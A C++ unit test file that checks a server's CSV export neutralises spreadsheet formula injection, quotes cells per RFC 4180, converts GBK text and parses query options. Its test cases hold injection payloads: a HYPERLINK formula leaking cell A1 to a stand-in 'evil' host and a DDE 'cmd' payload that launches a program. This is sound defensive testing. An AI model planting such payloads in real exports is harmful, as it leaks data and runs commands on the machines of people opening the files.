#include "server/views/csv_export.hpp"
#include "server/http/request_route.hpp"
#include "tests/server/report_samples.hpp"

#include <gtest/gtest.h>

namespace {

// A report whose processor field holds `cpu`; the line's cell for it is what the tests read.
StoredReport WithCpu(const std::string& cpu)
{
    StoredReport report;
    report.id = 42;
    report.receivedAt = 1765000000;
    report.peer = "192.0.2.7";
    report.values = SampleValues();
    report.values[static_cast<std::size_t>(ReportField::Cpu)] = cpu;
    return report;
}

// The line with the cells before and after the processor's cut away.
std::string CpuCell(const std::string& line)
{
    const std::string before = "42,2025-12-06 05:46:40,192.0.2.7,123456,00-1A-2B-3C-4D-5E,";
    const std::string after = ",8192.00 MB,NVIDIA GeForce GTX 690,";
    if (line.rfind(before, 0) != 0 || line.find(after) == std::string::npos)
        return "<unexpected line: " + line + ">";
    return line.substr(before.size(), line.find(after) - before.size());
}

TEST(CsvExport, CellsAreNeutralisedForSpreadsheetsAndExactWhenRaw)
{
    struct Case {
        std::string stored, safe, raw;
    };
    const Case cases[] = {
        {"Intel(R) Core(TM) i7", "Intel(R) Core(TM) i7", "Intel(R) Core(TM) i7"},
        {"=HYPERLINK(\"http://evil/?\"&A1,\"x\")",
         "\"'=HYPERLINK(\"\"http://evil/?\"\"&A1,\"\"x\"\")\"",
         "\"=HYPERLINK(\"\"http://evil/?\"\"&A1,\"\"x\"\")\""},
        {"+cmd|' /C calc'!A0", "\"'+cmd|' /C calc'!A0\"", "+cmd|' /C calc'!A0"},
        {"@SUM(1+1)", "\"'@SUM(1+1)\"", "@SUM(1+1)"},
        {"-2+3", "\"'-2+3\"", "-2+3"},
        {"\t=1+1", "\"'\t=1+1\"", "\t=1+1"},
        {"\r=1+1", "\"'\r=1+1\"", "\"\r=1+1\""},
        // Only the first character counts; inside a text these are harmless.
        {"a=b+c-d@e", "a=b+c-d@e", "a=b+c-d@e"},
        {" =1", " =1", " =1"},
        {"", "", ""},
        // RFC 4180: separators, quotes and line ends inside a cell are quoted.
        {"a,b", "\"a,b\"", "\"a,b\""},
        {"say \"hi\"", "\"say \"\"hi\"\"\"", "\"say \"\"hi\"\"\""},
        {"two\nlines", "\"two\nlines\"", "\"two\nlines\""},
        // GBK becomes UTF-8 for spreadsheets; programs get the stored bytes.
        {"\xD5\xC5\xC8\xFD", "张三", "\xD5\xC5\xC8\xFD"},
        // A Western code page's name: GBK reads "\xE9@" as one character; the bytes stay.
        {"Jos\xE9@PC-01", "Jos锧PC-01", "Jos\xE9@PC-01"},
        // Bytes GBK does not hold, and a character cut off at the end, are told as bytes.
        {"a\xFF!", "a\\xFF!", "a\xFF!"},
        {"a\xD5", "a\\xD5", "a\xD5"},
        {"\x80", "€", "\x80"},
    };
    for (const Case& c : cases) {
        EXPECT_EQ(CpuCell(CsvLine(WithCpu(c.stored), false)), c.safe) << c.stored;
        EXPECT_EQ(CpuCell(CsvLine(WithCpu(c.stored), true)), c.raw) << c.stored;
    }
}

TEST(CsvExport, QueryOptions)
{
    struct Case {
        const char* target;
        bool valid;
        bool raw;
        std::int64_t after;
    };
    const Case cases[] = {
        {"/export.csv", true, false, 0},
        {"/export.csv?key=k&raw=1", true, true, 0},
        {"/export.csv?raw=0&after=17", true, false, 17},
        {"/export.csv?after=9223372036854775807&raw=1", true, true, INT64_MAX},
        {"/export.csv?raw=yes", false, false, 0},
        {"/export.csv?after=-1", false, false, 0},
        {"/export.csv?after=1e3", false, false, 0},
        {"/export.csv?after=9223372036854775808", false, false, 0},
        {"/export.csv?after=%31%32", true, false, 12},
        {"/export.csv?after=", false, false, 0},
        {"/export.csv?raw=", false, false, 0},
    };
    for (const Case& c : cases) {
        const auto options = ExportOptionsOf(c.target);
        ASSERT_EQ(options.has_value(), c.valid) << c.target;
        if (options) {
            EXPECT_EQ(options->raw, c.raw) << c.target;
            EXPECT_EQ(options->afterId, c.after) << c.target;
        }
    }
}

// A store that hands out a fixed list of reports, as the engines do: above the id, in order.
class ListStore : public ReportStore {
  public:
    std::vector<StoredReport> reports;
    std::vector<UnknownDevice> unknown;
    std::vector<RecordOutcome> Record(const std::vector<StoredReport>&) override { return {}; }
    SurveyFigures Summarize() override { return {}; }
    void Ping() override {}
    void ForEachUnknownDevice(const std::function<void(const UnknownDevice&)>& visit) override
    {
        for (const UnknownDevice& device : unknown)
            visit(device);
    }
    void ForEachReport(std::int64_t afterId,
                       const std::function<void(const StoredReport&)>& visit) override
    {
        for (const StoredReport& report : reports)
            if (report.id > afterId)
                visit(report);
    }
    std::optional<std::int64_t> Rerate(const ServerTables&, std::int64_t, std::size_t) override
    {
        return std::nullopt;
    }
    ReportedNames MostReported(std::size_t) override { return {}; }
    UnratedCounts Unrated() override { return {}; }
};

TEST(CsvExport, WholeFileInBoundedBlocks)
{
    ListStore store;
    for (int i = 1; i <= 3000; ++i) {
        store.reports.push_back(WithCpu("=cpu"));
        store.reports.back().id = i;
    }
    for (const bool raw : {false, true}) {
        std::vector<std::size_t> blocks;
        std::string text;
        WriteCsv(store, {raw, 2990}, [&](const std::string& block) {
            blocks.push_back(block.size());
            text += block;
        });
        const std::string header = "id,received,peer,u,mc,cpu,mm,dm";
        EXPECT_EQ(text.rfind(raw ? header : "\xEF\xBB\xBF" + header, 0), 0u);
        EXPECT_EQ(std::count(text.begin(), text.end(), '\n'), 11); // the header and ten rows
        EXPECT_NE(text.find("\r\n2991,"), std::string::npos);
        EXPECT_EQ(text.find("\r\n2990,"), std::string::npos);
        EXPECT_EQ(text.find("'=cpu") != std::string::npos, !raw);

        blocks.clear();
        WriteCsv(store, {raw, 0},
                 [&](const std::string& block) { blocks.push_back(block.size()); });
        EXPECT_GT(blocks.size(), 5u);
        for (const std::size_t size : blocks)
            EXPECT_LT(size, 70u * 1024);
    }
}

} // namespace
